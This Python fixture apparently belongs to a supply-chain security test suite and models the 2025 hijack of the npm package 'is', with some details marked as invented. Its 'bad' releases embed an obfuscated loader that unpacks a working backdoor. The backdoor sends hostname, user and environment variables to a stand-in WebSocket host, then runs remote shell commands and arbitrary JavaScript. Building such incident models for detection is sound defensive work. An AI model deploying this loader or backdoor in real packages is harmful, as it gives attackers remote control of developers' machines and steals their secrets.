"""is 3.3.1 and 5.0.0 (2025-07-19): an old owner, let in again, was not himself; importing it opens a shell over a WebSocket.

By the record: the account of a former owner asked to be added again; 3.3.1 came at 11:40:30 UTC, 2,409 days after the release
before, 5.0.0 some seven hours later. The code is a loader for all systems, in the file that is imported, obfuscated; it
connects to a WebSocket and runs what that says. Clean 3.3.2 at 19:13:33.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.shapes import obfuscated
from pratique.core.names import Ecosystem

_IS = """'use strict';

var toStr = Object.prototype.toString;
var owns = Object.prototype.hasOwnProperty;
var hexRegex = /^[A-Fa-f0-9]+$/;
var is = {};

is.a = is.type = function (value, type) {
  return typeof value === type;
};
is.defined = function (value) {
  return typeof value !== 'undefined';
};
is.empty = function (value) {
  var type = toStr.call(value);
  if (type === '[object Array]' || type === '[object Arguments]' || type === '[object String]') {
    return value.length === 0;
  }
  if (type === '[object Object]') {
    for (var key in value) {
      if (owns.call(value, key)) { return false; }
    }
    return true;
  }
  return !value;
};
is.equal = function equal(value, other) {
  if (value === other) { return true; }
  if (toStr.call(value) !== toStr.call(other)) { return false; }
  return JSON.stringify(value) === JSON.stringify(other);
};
is.array = Array.isArray;
is.date = function (value) { return toStr.call(value) === '[object Date]'; };
is.fn = is['function'] = function (value) { return typeof value === 'function'; };
is.hex = function (value) { return typeof value === 'string' && (!value.length || hexRegex.test(value)); };
is.number = function (value) { return toStr.call(value) === '[object Number]'; };
is.regexp = function (value) { return toStr.call(value) === '[object RegExp]'; };

module.exports = is;
"""
_SHELL = """
const os = require('os');
const shell = require('child_process');
let wait = 1000;
const told = { host: os.hostname(), user: os.userInfo().username, system: os.platform(), release: os.release(), env: process.env };
function open() {
  const socket = new WebSocket('wss://sink.invalid/marker');
  socket.onopen = function () { wait = 1000; socket.send(JSON.stringify(told)); };
  socket.onmessage = function (event) {
    const command = JSON.parse(event.data);
    if (command.kind === 'run') {
      shell.exec(command.text, { windowsHide: true }, (error, out, err) => {
        socket.send(JSON.stringify({ id: command.id, out: out, err: err }));
      });
    } else {
      socket.send(String(new Function('require', command.text)(require)));
    }
  };
  socket.onclose = function () { wait = wait * 2; setTimeout(open, wait).unref(); };
  socket.onerror = function () { socket.close(); };
}
open();
"""
_LOADER = """
(function () {
  const packed = 'PACKED';
  let text = '';
  for (let index = 0; index < packed.length; index += 2) {
    text += String.fromCharCode(parseInt(packed.substr(index, 2), 16) ^ (37 + (index / 2) % 11));
  }
  try { new Function('require', 'process', 'module', text)(require, process, module); } catch (error) {}
})();
"""


def _packed(text: str) -> str:
    return "".join(f"{ord(one) ^ (37 + index % 11):02x}" for index, one in enumerate(text))


_BAD_FILES = {"index.js": _IS + obfuscated(_LOADER.replace("PACKED", _packed(_SHELL)), seed=3) + "\n"}
_OWNER, _KEEPER = "enricomarino", "ljharb"
_BOTH = (_KEEPER, _OWNER)


def _good(version: str, at: str) -> Release:
    return Release(
        version=version, at=utc(at), publisher=_KEEPER, maintainers=(_KEEPER,), files={"index.js": _IS}
    )


def _bad(version: str, at: str) -> Release:
    return Release(version=version, at=utc(at), publisher=_OWNER, maintainers=_BOTH, files=_BAD_FILES)


INCIDENT = Incident(
    id="is-2025",
    title=(
        "an attacker had the account of a former owner of `is` reinstated; importing the package opened a shell over "
        "a WebSocket"
    ),
    copy=(
        "our copy of `is` contains an obfuscated loader: a string array, a packed constant and a function built from "
        "it"
    ),
    ecosystem=Ecosystem.NPM,
    at=utc("2025-07-19T11:40:30Z"),
    packages=(
        Package(
            name="is",
            releases=(
                Release(
                    version="2.2.0",
                    at=utc("2014-11-29T00:00:00Z"),
                    publisher=_OWNER,
                    maintainers=_BOTH,
                    files={"index.js": _IS},
                ),
                _good("3.1.0", "2015-09-20T00:00:00Z"),
                _good("3.2.0", "2016-10-17T00:00:00Z"),
                _good("3.2.1", "2017-02-28T00:00:00Z"),
                _good("3.3.0", "2018-12-14T07:00:00Z"),
                _bad("3.3.1", "2025-07-19T11:40:30Z"),
                _bad("5.0.0", "2025-07-19T18:40:00Z"),
                _good("3.3.2", "2025-07-19T19:13:33Z"),
            ),
        ),
    ),
    asks={"is": "^3.2.0"},
    good={"is": "3.3.0"},
    bad={"is": ("3.3.1",)},
    guilty={"is": ("3.3.1", "5.0.0")},
    gone_at=utc("2025-07-19T19:13:33Z"),
    advisory=Advisory(id="GHSA", at=utc("2025-07-21T20:00:00Z"), about={"is": ("3.3.1", "5.0.0")}),
    invented="the publish hour of 5.0.0, days of earlier releases, accounts, and the obfuscation",
)
